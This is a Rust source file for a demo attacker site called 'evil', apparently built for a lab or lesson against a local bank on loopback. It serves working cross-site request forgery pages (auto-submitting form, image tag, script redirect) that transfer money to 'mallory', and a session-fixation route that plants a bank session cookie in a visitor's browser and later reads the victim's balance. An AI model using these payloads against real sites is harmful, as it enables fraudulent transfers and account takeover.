//! `evil HOST:PORT --bank URL`: pages of a site that wants the bank's customers' money.
//!
//! It uses nothing but what every web page may do: forms, images, links, and cookies for its own
//! host. For the bank of this folder, on loopback.

use std::io::Read as _;
use std::net::{TcpListener, TcpStream};
use std::process::ExitCode;
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

use anyhow::Context as _;
use clap::Parser;
use http_messages::blocking::{Body, Client, Config, RequestBody, Response, Server, Stop};
use http_messages::{Fields, HttpUrl, Limits, Method, RequestHead, ResponseHead, Status};

/// How long the bank may take, when we are its client.
const PATIENCE: Duration = Duration::from_secs(10);
/// The longest page of the bank that we read, in bytes.
const MAX_PAGE: u64 = 64 << 10;

/// Another site: cross-site request forgery and session fixation against the bank.
#[derive(Parser)]
struct Options {
    /// Where to listen, HOST:PORT; port 0 takes a free one.
    address: String,
    /// The bank as its customers write it, e.g. <http://bank.localhost:8000>.
    #[arg(long)]
    bank: HttpUrl,
    /// The name of the bank's session cookie.
    #[arg(long, default_value = "__Host-session")]
    cookie: String,
    /// Plants the cookie for this whole domain, of which the bank is a part.
    #[arg(long)]
    domain: Option<String>,
}

struct Evil {
    options: Options,
    /// The session that `/fixate` has prepared.
    prepared: Mutex<Option<String>>,
}

impl Evil {
    fn answer(&self, head: &RequestHead) -> anyhow::Result<Response> {
        let bank = format!("http://{}", self.options.bank.host_field());
        match head.target.path() {
            "/" => Ok(text(&format!(
                "You sent me these cookies: {}\n",
                head.fields.get_str("Cookie").unwrap_or("none")
            ))),
            // Posts itself as soon as it is there. Nobody has to click.
            "/form" => Ok(html(&format!(
                r#"<form method="post" action="{bank}/transfer">
<input name="to" value="mallory"><input name="amount" value="10">
</form>
<script>document.forms[0].submit()</script>
"#
            ))),
            // A request without a trace on the screen.
            "/image" => Ok(html(&format!(
                r#"<img src="{bank}/transfer?to=mallory&amp;amount=10" alt="cats">
"#
            ))),
            // What an ordinary link does, without the click.
            "/link" => Ok(html(&format!(
                r#"<script>location = "{bank}/transfer?to=mallory&amount=10"</script>
"#
            ))),
            "/fixate" => self.fixate(&bank),
            "/loot" => self.loot(),
            _ => Ok(Response::new(Status::NOT_FOUND, "no such page\n")),
        }
    }
}

impl Evil {
    /// Takes a session at the bank, puts it into the visitor's browser, and sends the visitor there
    /// to log in. A cookie knows no port, and with `Domain` it reaches the hosts beside ours.
    fn fixate(&self, bank: &str) -> anyhow::Result<Response> {
        let (head, _) = self.get("/", None)?;
        let given = head.fields.get_str("Set-Cookie").context("the bank gives no session")?;
        let start = format!("{}=", self.options.cookie);
        let value = given.strip_prefix(&start).context("the bank's cookie has another name")?;
        let value = value.split(';').next().unwrap_or_default();
        *self.prepared.lock().unwrap_or_else(PoisonError::into_inner) = Some(value.to_owned());
        let mut field = format!("{start}{value}; Path=/");
        if let Some(domain) = &self.options.domain {
            field += &format!("; Domain={domain}");
        }
        if self.options.cookie.starts_with("__") {
            field += "; Secure";
        }
        let mut page = Response::new(Status::SEE_OTHER, "the session waits for you\n");
        page.fields.append("Location", format!("{bank}/"))?;
        page.fields.append("Set-Cookie", field)?;
        Ok(page)
    }

    /// Asks the bank whose session it is by now.
    fn loot(&self) -> anyhow::Result<Response> {
        let prepared = self.prepared.lock().unwrap_or_else(PoisonError::into_inner).clone();
        let value = prepared.context("nothing prepared: let somebody visit /fixate")?;
        let (_, balance) = self.get("/balance", Some(&value))?;
        Ok(text(&format!("the bank says: {balance}")))
    }
}

impl Evil {
    /// One request to the bank, as anybody may send it.
    fn get(&self, path: &str, session: Option<&str>) -> anyhow::Result<(ResponseHead, String)> {
        let bank = &self.options.bank;
        // Names under localhost are loopback (RFC 6761 §6.3). Browsers and curl know it, and not
        // every resolver does.
        let local = bank.host_name().ends_with(".localhost");
        let host = if local { "localhost" } else { bank.host_name() };
        let stream = TcpStream::connect((host, bank.port()))
            .with_context(|| format!("cannot connect to the bank at {}", bank.host_field()))?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.set_write_timeout(Some(PATIENCE))?;
        let mut fields = Fields::new();
        fields.append("Host", bank.host_field())?;
        fields.append("Connection", "close")?;
        if let Some(value) = session {
            fields.append("Cookie", format!("{}={value}", self.options.cookie))?;
        }
        let limits = Limits { content: MAX_PAGE, ..Limits::default() };
        let mut client = Client::new(stream, limits);
        let target = http_messages::Target::new(&Method::Get, path)?;
        let head = client.send(&Method::Get, &target, &fields, Body::Empty)?;
        let mut page = String::new();
        client.read_to_string(&mut page)?;
        Ok((head, page))
    }

    fn handle(&self, head: &RequestHead, _: &mut RequestBody<'_>) -> Response {
        let response = self
            .answer(head)
            .unwrap_or_else(|error| Response::new(Status::BAD_GATEWAY, format!("{error:#}\n")));
        println!("{} {} {}", head.method.as_str(), head.target.as_str(), response.status.code());
        response
    }
}

fn html(body: &str) -> Response {
    respond(format!("<!doctype html>\n<title>Cats</title>\n{body}"), "text/html; charset=utf-8")
}

fn text(body: &str) -> Response {
    respond(body.to_owned(), "text/plain; charset=utf-8")
}

fn respond(body: String, kind: &str) -> Response {
    let mut response = Response::new(Status::OK, body);
    response.fields.append("Content-Type", kind).expect("a valid value");
    response
}

fn main() -> ExitCode {
    match open(Options::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("evil: {error:#}");
            ExitCode::FAILURE
        }
    }
}

/// Serves until Ctrl-C.
fn open(options: Options) -> anyhow::Result<()> {
    let evil = Evil { options, prepared: Mutex::default() };
    let address = &evil.options.address;
    let listener =
        TcpListener::bind(address).with_context(|| format!("cannot listen on {address}"))?;
    println!("listening on http://{}/", listener.local_addr()?);
    let stop = Stop::new();
    let switch = stop.clone();
    ctrlc::set_handler(move || switch.now())?;
    let server = Server::new(Config::default());
    server.serve(&listener, &stop, move |head, body| evil.handle(head, body))?;
    Ok(())
}
